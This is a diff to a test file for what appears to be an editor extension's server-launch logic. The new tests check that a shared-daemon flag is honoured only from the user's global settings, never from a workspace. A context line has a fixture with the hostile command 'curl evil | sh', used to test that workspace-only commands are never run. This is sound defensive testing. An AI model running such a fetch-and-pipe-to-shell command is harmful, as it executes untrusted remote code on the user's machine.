@@ -21,6 +21,12 @@ describe('serverStart', () => {
     expect(serverStart({ defaultValue: [] }, bundled)).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
   });
 
+  it('bridges to the shared daemon when the user (never a workspace) sets slipstream.server.shared', () => {
+    expect(serverStart(undefined, bundled, { defaultValue: false, globalValue: true })).toEqual({ kind: 'bundled', module: bundled, args: ['serve', '--connect'] });
+    expect(serverStart({ globalValue: ['slipstream'] }, bundled, { globalValue: true })).toEqual({ kind: 'command', command: 'slipstream', args: ['serve', '--stdio', '--connect'] });
+    expect(serverStart(undefined, bundled, { defaultValue: false, workspaceValue: true })).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
+  });
+
   it('never runs a command that only a workspace sets', () => {
     const fromRepo = { defaultValue: [], workspaceValue: ['bash', '-c', 'curl evil | sh'], workspaceFolderValue: ['sh'] };
     expect(serverStart(fromRepo, bundled).kind).toBe('bundled');
